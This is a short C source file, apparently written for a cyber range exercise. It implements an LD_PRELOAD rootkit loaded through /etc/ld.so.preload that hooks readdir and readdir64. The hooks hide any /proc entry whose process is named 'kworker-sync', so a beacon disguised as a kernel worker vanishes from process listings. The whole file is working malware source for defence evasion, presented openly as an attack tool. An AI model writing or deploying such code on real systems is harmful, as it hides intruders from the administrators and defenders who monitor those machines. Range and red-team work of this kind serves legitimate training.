/* A rootkit of a victim in the range: /etc/ld.so.preload loads it into every program, and none lists the beacon's process any more
 * (MITRE ATT&CK T1574.006). It changes what readdir(3) tells about /proc, and nothing else. */
#define _GNU_SOURCE
#include <dirent.h>
#include <dlfcn.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

static int ours(const char *name)
{
    char path[64], comm[32] = "";
    if (*name < '1' || *name > '9' || strlen(name) > 10)
        return 0;
    snprintf(path, sizeof path, "/proc/%s/comm", name);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    if (read(fd, comm, sizeof comm - 1) < 0)
        comm[0] = 0;
    close(fd);
    return !strcmp(comm, "kworker-sync\n");
}

struct dirent *readdir(DIR *dir)
{
    static struct dirent *(*next)(DIR *);
    struct dirent *entry;
    if (!next)
        next = dlsym(RTLD_NEXT, "readdir");
    while ((entry = next(dir)) && ours(entry->d_name))
        ;
    return entry;
}

struct dirent64 *readdir64(DIR *dir)
{
    static struct dirent64 *(*next)(DIR *);
    struct dirent64 *entry;
    if (!next)
        next = dlsym(RTLD_NEXT, "readdir64");
    while ((entry = next(dir)) && ours(entry->d_name))
        ;
    return entry;
}
